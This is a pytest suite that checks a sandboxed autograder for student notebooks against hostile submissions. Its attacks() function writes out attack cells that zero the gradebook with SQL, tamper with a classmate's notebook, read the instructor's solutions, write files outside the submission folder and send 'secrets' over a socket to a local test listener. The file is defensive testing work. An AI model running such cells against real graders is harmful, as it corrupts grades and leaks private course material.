"""Hostile students graded through the documented path (scripts/grade_class.py), after an honest classmate.

Each attacker hands in perfect answers plus one cell that attacks while it is graded: it writes to the
gradebook with sqlite3, rewrites the classmate's submitted notebook, writes into the course root and the grader's
home, prints the instructor's solutions/, lists submitted/, or opens a TCP connection to a listener this test
starts on 127.0.0.1. With every grading kernel in the sandbox (lstm_course/grading/sandbox.py), for each: its own
score is what its answers earn (full marks: the attack cell is not graded); every other student's gradebook rows
and files are as before; no solution text reaches any graded notebook's outputs or any feedback; nothing reached
the listener; and the integrity report names the attempt (statically, and as a denial seen while grading). The
class is graded one at a time, then again two at a time (--jobs 2).

Also here: grading refuses plainly where no sandbox can be made (bwrap pointed at a missing file), and with
--allow-unsandboxed it grades and the reports say so (and an attack then succeeds: what the checks above detect).
"""

from __future__ import annotations

import csv
import hashlib
import os
import socket
import sqlite3
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import nbformat
import pytest

from synthetic_class import REPO_ROOT, UnitFacts, first_exercise_index, insert_cell, unit_available

from course_harness import GradingCourse, kernel_environment  # noqa: E402  (put on sys.path by synthetic_class)
from lstm_course.grading.sandbox import ALLOW_VARIABLE, BWRAP_VARIABLE, probe

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(not probe().available, reason="no grading sandbox can be made on this machine")]

UNIT = os.environ.get("LSTM_GRADING_E2E_UNIT", "04_gates")
HONEST = "a_honest"
SOLUTION_MARKERS = ("BEGIN SOLUTION", "END SOLUTION", "BEGIN HIDDEN TESTS", '"grade_id"')


def attacks(root: Path, home: Path, port: int) -> dict[str, tuple[list[str], str, str]]:
    """student -> (attack cells, integrity category it must be flagged under, a word its denial must show).

    Relative paths climb from where nbgrader runs the notebook (autograded/<student>/<unit>/) to the course root;
    absolute ones name the course and the grader's home, as an attacker who knows them would.
    """
    victim = root / "submitted" / HONEST / UNIT / f"{UNIT}.ipynb"
    return {
        "b_gradebook": ([f"""
            import sqlite3
            gradebook = sqlite3.connect("../../../gradebook.db")
            gradebook.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
            gradebook.commit()
            """], "gradebook", "database"),
        "c_rewrites_classmate": ([f"""
            text = open({str(victim)!r}).read()
            with open({str(victim)!r}, "w") as handle:
                handle.write(text.replace("sigmoid(", "np.tanh("))
            """], "files", "outside its folder"),
        "d_writes_root_and_home": ([f"open({str(root / 'pwned.txt')!r}, 'w').write('was here')",
                                    f"open({str(home / 'pwned.txt')!r}, 'w').write('was here')"],
                                   "files", "outside its folder"),
        "e_reads_solutions": ([f"print(open('../../../solutions/{UNIT}/{UNIT}.ipynb').read())"],
                              "files", "outside its folder"),
        "f_lists_submitted": (["import os\nprint(os.listdir('../../../submitted'))"], "files", "outside its folder"),
        "g_network": ([f"""
            import socket
            connection = socket.create_connection(("127.0.0.1", {port}), timeout=10)
            connection.sendall(b"the grader's secrets")
            """], "network", "network"),
    }


def submission(facts: UnitFacts, cells: list[str]):
    notebook = facts.correct()
    for cell in reversed(cells):
        notebook = insert_cell(notebook, first_exercise_index(facts.release), textwrap.dedent(cell))
    return notebook


class Listener:
    """A TCP server on 127.0.0.1 recording every connection it accepts (none should arrive)."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                connection, address = self.server.accept()
            except OSError:
                continue
            self.accepted.append(address)
            connection.close()

    def close(self):
        self._stop.set()
        self._thread.join()
        self.server.close()


def grade(root: Path, home: Path, *options: str, environ=None) -> subprocess.CompletedProcess:
    environment = {**kernel_environment(), "HOME": str(home), **(environ or {})}
    return subprocess.run([sys.executable, str(REPO_ROOT / "scripts" / "grade_class.py"), UNIT,
                           "--course-root", str(root), *options],
                          capture_output=True, text=True, env=environment)


def gradebook_rows(root: Path, student: str) -> list[tuple]:
    """Every value the gradebook holds for ``student`` (grades, comments, submission), without generated ids."""
    with sqlite3.connect(root / "gradebook.db") as db:
        rows = db.execute("""
            SELECT 'grade', bc.name, g.auto_score, g.manual_score, g.extra_credit, g.needs_manual_grade
            FROM grade g JOIN submitted_notebook sn ON g.notebook_id = sn.id
            JOIN submitted_assignment sa ON sn.assignment_id = sa.id JOIN base_cell bc ON g.cell_id = bc.id
            WHERE sa.student_id = ?
            UNION ALL
            SELECT 'comment', bc.name, c.auto_comment, c.manual_comment, NULL, NULL
            FROM comment c JOIN submitted_notebook sn ON c.notebook_id = sn.id
            JOIN submitted_assignment sa ON sn.assignment_id = sa.id JOIN base_cell bc ON c.cell_id = bc.id
            WHERE sa.student_id = ?
            UNION ALL
            SELECT 'submission', sa.timestamp, sa.extension, sn.flagged, sn.late_submission_penalty, NULL
            FROM submitted_assignment sa JOIN submitted_notebook sn ON sn.assignment_id = sa.id
            WHERE sa.student_id = ?
            UNION ALL
            SELECT 'student', id, first_name, last_name, email, lms_user_id FROM student WHERE id = ?
        """, (student,) * 4).fetchall()
    return sorted(rows, key=repr)


def scores(root: Path) -> dict[str, float]:
    with sqlite3.connect(root / "gradebook.db") as db:
        return dict(db.execute("""
            SELECT sa.student_id, SUM(COALESCE(g.manual_score, g.auto_score, 0))
            FROM grade g JOIN submitted_notebook sn ON g.notebook_id = sn.id
            JOIN submitted_assignment sa ON sn.assignment_id = sa.id GROUP BY sa.student_id""").fetchall())


def file_hashes(folder: Path) -> dict[str, str]:
    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(folder.rglob("*")) if path.is_file()}


def read_csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def leaked_solution_text(root: Path, hidden_lines: list[str]) -> list[str]:
    """Where solution or hidden-test text shows in a graded notebook's outputs or in any feedback page."""
    leaks = []
    for path in sorted((root / "autograded").glob(f"*/{UNIT}/*.ipynb")):
        notebook = nbformat.read(str(path), as_version=4)
        outputs = "\n".join(str(output) for cell in notebook.cells for output in cell.get("outputs", []))
        leaks += [f"{path}: {marker}" for marker in SOLUTION_MARKERS if marker in outputs]
    for page in sorted((root / "feedback").glob(f"*/{UNIT}/*.html")):
        text = page.read_text(encoding="utf-8")
        # Feedback shows the student's own cells: markers they handed in themselves (these synthetic students'
        # answers are the solution cells, markers included) are theirs; any other marker came from elsewhere.
        student = page.parent.parent.name
        handed_in = "".join(path.read_text(encoding="utf-8")
                            for path in (root / "submitted" / student / UNIT).glob("*.ipynb"))
        leaks += [f"{page}: {marker}" for marker in SOLUTION_MARKERS[:3] if marker in text and marker not in handed_in]
        leaks += [f"{page}: {line}" for line in hidden_lines if line in text]
    return leaks


def hidden_test_lines(facts: UnitFacts) -> list[str]:
    lines, inside = [], False
    for cell in facts.source.cells:
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line:
                inside = True
            elif "END HIDDEN TESTS" in line:
                inside = False
            elif inside and line.strip():
                lines.append(line.strip())
    return lines


@pytest.fixture(scope="module")
def grading_kernel(tmp_path_factory):
    """The grading kernel installed in a temporary Jupyter data folder that the nbgrader commands see."""
    from lstm_course.grading.kernel import install

    prefix = tmp_path_factory.mktemp("jupyter")
    install(prefix=str(prefix))
    saved = os.environ.get("JUPYTER_PATH")
    os.environ["JUPYTER_PATH"] = os.pathsep.join(filter(None, [str(prefix / "share" / "jupyter"), saved]))
    yield
    if saved is None:
        os.environ.pop("JUPYTER_PATH", None)
    else:
        os.environ["JUPYTER_PATH"] = saved


@pytest.fixture(scope="module")
def attacked(grading_kernel, tmp_path_factory):
    reason = unit_available(UNIT)
    if reason:
        pytest.skip(reason)
    base = tmp_path_factory.mktemp("attacked")
    root, home = base / "course", base / "grader-home"
    home.mkdir()
    course = GradingCourse.create(root, [UNIT])
    facts = UnitFacts.read(UNIT, root / "solutions" / UNIT / f"{UNIT}.ipynb", root / "notebooks" / UNIT / f"{UNIT}.ipynb")
    listener = Listener()
    try:
        # The honest classmate is graded first, alone.
        course.add_submission(HONEST, UNIT, facts.correct())
        finished = grade(root, home, "--jobs", "1")
        assert finished.returncode == 0, finished.stdout + finished.stderr
        before = dict(rows=gradebook_rows(root, HONEST), honest_files=file_hashes(root / "submitted" / HONEST),
                      solutions=file_hashes(root / "solutions"), release=file_hashes(root / "notebooks"),
                      root_names=sorted(path.name for path in root.iterdir()), home=file_hashes(home))
        plans = attacks(root, home, listener.port)
        for student, (cells, _, _) in plans.items():
            course.add_submission(student, UNIT, submission(facts, cells))
        submitted = {student: file_hashes(root / "submitted" / student) for student in plans}
        runs = {}
        for jobs in ("1", "2"):
            finished = grade(root, home, "--jobs", jobs)
            assert finished.returncode == 0, finished.stdout + finished.stderr
            runs[jobs] = dict(
                output=finished.stdout + finished.stderr, scores=scores(root),
                rows={student: gradebook_rows(root, student) for student in [HONEST, *plans]},
                honest_files=file_hashes(root / "submitted" / HONEST),
                submitted={student: file_hashes(root / "submitted" / student) for student in plans},
                solutions=file_hashes(root / "solutions"), release=file_hashes(root / "notebooks"),
                root_names=sorted(path.name for path in root.iterdir()), home=file_hashes(home),
                leaks=leaked_solution_text(root, hidden_test_lines(facts)),
                integrity=read_csv(root / "reports" / UNIT / "integrity.csv"),
                grading=read_csv(root / "reports" / UNIT / "grading.csv"),
                grading_md=(root / "reports" / UNIT / "grading.md").read_text(encoding="utf-8"))
    finally:
        listener.close()
    return dict(root=root, facts=facts, plans=plans, before=before, submitted=submitted, runs=runs,
                accepted=listener.accepted)


RUNS = pytest.mark.parametrize("jobs", ["1", "2"], ids=["one-at-a-time", "two-at-once"])


@RUNS
def test_every_student_scores_what_their_answers_earn(attacked, jobs):
    full = sum(attacked["facts"].points.values())
    got = attacked["runs"][jobs]["scores"]
    assert got == {student: pytest.approx(full) for student in [HONEST, *attacked["plans"]]}


@RUNS
def test_the_honest_classmates_rows_and_files_are_untouched(attacked, jobs):
    run, before = attacked["runs"][jobs], attacked["before"]
    assert run["rows"][HONEST] == before["rows"]
    assert run["honest_files"] == before["honest_files"]


@RUNS
def test_no_attacker_changes_another_attackers_submission_or_the_course(attacked, jobs):
    run, before = attacked["runs"][jobs], attacked["before"]
    assert run["submitted"] == attacked["submitted"]
    assert run["solutions"] == before["solutions"] and run["release"] == before["release"]
    assert "pwned.txt" not in run["root_names"]
    assert set(run["root_names"]) - set(before["root_names"]) <= {"reports"}
    assert run["home"] == before["home"]  # nbgrader's own .ipython/.jupyter, from the honest run; no pwned.txt
    # Each attacker's rows hold only what its own grading wrote: full marks on every cell.
    for student in attacked["plans"]:
        grades = [row for row in run["rows"][student] if row[0] == "grade"]
        assert grades and all((row[2] or 0) == attacked["facts"].points.get(row[1], row[2] or 0) for row in grades)


@RUNS
def test_no_solution_text_reaches_graded_outputs_or_feedback(attacked, jobs):
    assert attacked["runs"][jobs]["leaks"] == []


def test_nothing_reached_the_listener(attacked):
    assert attacked["accepted"] == []


@RUNS
def test_the_reports_name_each_attempt_and_what_the_sandbox_denied(attacked, jobs):
    run = attacked["runs"][jobs]
    grading = {row["student"]: row for row in run["grading"]}
    assert grading[HONEST]["denied"] == ""
    assert not [row for row in run["integrity"] if row["student"] == HONEST and row["severity"] == "high"]
    for student, (_, category, denial) in attacked["plans"].items():
        rows = [row for row in run["integrity"] if row["student"] == student]
        assert any(row["severity"] == "high" and row["category"] == category for row in rows), (student, rows)
        denied = [row for row in rows if row["category"] == "sandbox"]
        assert denied and any(denial in row["detail"] for row in denied), (student, rows)
        assert denial in grading[student]["denied"], grading[student]
        assert student in run["grading_md"].split("## Denied by the grading sandbox")[1]
    assert "WITHOUT" not in run["grading_md"]


def test_grading_refuses_plainly_without_a_sandbox_and_grades_nobody(grading_kernel, tmp_path):
    root, home = tmp_path / "course", tmp_path / "home"
    home.mkdir()
    course = GradingCourse.create(root, [UNIT])
    facts = UnitFacts.read(UNIT, root / "solutions" / UNIT / f"{UNIT}.ipynb", root / "notebooks" / UNIT / f"{UNIT}.ipynb")
    course.add_submission(HONEST, UNIT, facts.correct())
    gradebook_before = (root / "gradebook.db").read_bytes()
    missing = {BWRAP_VARIABLE: str(tmp_path / "no-bwrap-here")}
    finished = grade(root, home, environ=missing)
    assert finished.returncode == 2
    assert "Refusing to grade" in finished.stderr and "--allow-unsandboxed" in finished.stderr
    assert "no-bwrap-here" in finished.stderr
    assert not (root / "autograded").exists() and not (root / "reports").exists()
    assert (root / "gradebook.db").read_bytes() == gradebook_before

    # The same through nbgrader itself (the formgrader's path): the kernel refuses, nothing is scored.
    environment = {**kernel_environment(), "HOME": str(home), **missing}
    environment.pop(ALLOW_VARIABLE, None)
    autograde = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", UNIT, "--force"], cwd=root,
                               env=environment, capture_output=True, text=True)
    assert "no grading sandbox here" in autograde.stderr
    assert "Refusing to grade" in autograde.stdout + autograde.stderr
    assert scores(root).get(HONEST, 0) == 0


def test_with_allow_unsandboxed_it_grades_and_says_so(grading_kernel, tmp_path):
    root, home = tmp_path / "course", tmp_path / "home"
    home.mkdir()
    course = GradingCourse.create(root, [UNIT])
    facts = UnitFacts.read(UNIT, root / "solutions" / UNIT / f"{UNIT}.ipynb", root / "notebooks" / UNIT / f"{UNIT}.ipynb")
    course.add_submission(HONEST, UNIT, facts.correct())
    cells, _, _ = attacks(root, home, 1)["e_reads_solutions"]
    course.add_submission("e_reads_solutions", UNIT, submission(facts, cells))
    finished = grade(root, home, "--allow-unsandboxed", environ={BWRAP_VARIABLE: str(tmp_path / "no-bwrap-here")})
    assert finished.returncode == 0, finished.stdout + finished.stderr
    assert "WITHOUT the grading sandbox" in finished.stderr
    assert "WITHOUT the grading sandbox" in (root / "reports" / UNIT / "grading.md").read_text()
    integrity = read_csv(root / "reports" / UNIT / "integrity.csv")
    assert any(row["category"] == "sandbox" and "WITHOUT" in row["detail"] for row in integrity)
    full = sum(facts.points.values())
    assert scores(root) == {HONEST: pytest.approx(full), "e_reads_solutions": pytest.approx(full)}
    # Unsandboxed, the attack works: the solutions land in the attacker's graded notebook, which is what the
    # leak check of the sandboxed runs above looks for.
    assert leaked_solution_text(root, hidden_test_lines(facts))
    assert any(row["student"] == "e_reads_solutions" and "solutions" in row["detail"] for row in integrity)
